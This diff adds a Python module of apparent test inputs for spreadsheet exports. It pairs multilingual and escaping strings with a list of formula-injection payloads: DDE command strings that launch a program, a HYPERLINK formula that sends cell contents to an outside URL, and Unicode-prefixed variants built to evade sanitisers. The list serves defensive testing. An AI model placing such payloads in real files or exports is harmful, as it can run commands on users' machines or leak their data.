@@ -1,0 +1,46 @@
+"""What spreadsheets run, and what they garble."""
+
+TRICKS = (
+    "=1+1",
+    "=SUM(A1:A9)",
+    '=HYPERLINK("http://example.com?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\u202e=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    "|calc",
+    "%0a=1+1",
+    "'=1+1",
+    "\x00=1+1",
+)
+SCRIPTS = (
+    "月次のSQLレポートを書く",
+    "اكتب تقارير نهاية الشهر",
+    "כתוב דוחות סוף חודש",
+    "Напиши отчёты за месяц",
+    "महीने के अंत की रिपोर्ट",
+    "ขียนรายงาน",
+    "Zoë’s naïve façade — “£5”",  # noqa: RUF001  meant as it stands
+    "e\u0301 and \u00e9",
+    "👩‍💻🏳️‍🌈",
+    "one,two;three\ttabs",
+    'a "quoted" word, and ""two""',
+    "two\nlines\r\nand\rthree",
+    "\\ and \\\" and '",
+    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",  # noqa: RUF001  meant as it stands
+)
